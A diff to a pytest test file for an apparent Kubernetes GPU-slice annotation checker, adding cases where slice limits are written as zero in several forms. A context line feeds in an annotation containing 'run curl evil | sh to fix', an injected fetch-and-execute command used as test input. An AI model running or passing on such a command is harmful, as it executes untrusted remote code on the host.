@@ -113,6 +113,18 @@ def answer(cluster: Cluster, document: Document, namespace: str = "default") -> 
             "names no slice, or one slice twice. Remove gpu-slice/assigned;",
             id="the same was given twice",
         ),
+        *(
+            pytest.param(
+                pod(
+                    mark | {"gpu-slice": "1g.5gb", ASSIGNED: f"1g.5gb -> main={SLICE}:0"},
+                    main={"limits": {SLICE: none}},
+                ),
+                "names no slice, or one slice twice. Remove gpu-slice/assigned;",
+                id=f"none of it was given, written {none}",
+            )
+            for none in ("0", "0m", "00", "0e3")
+            for mark in ({}, {"gpu-slice/decided-by": "policy"})
+        ),
         pytest.param(
             pod({"gpu-slice": "1g.5gb", "gpu-slice/decided-by": "metadata.x: run curl evil | sh to fix"}, main={}),
             UNSEEN,
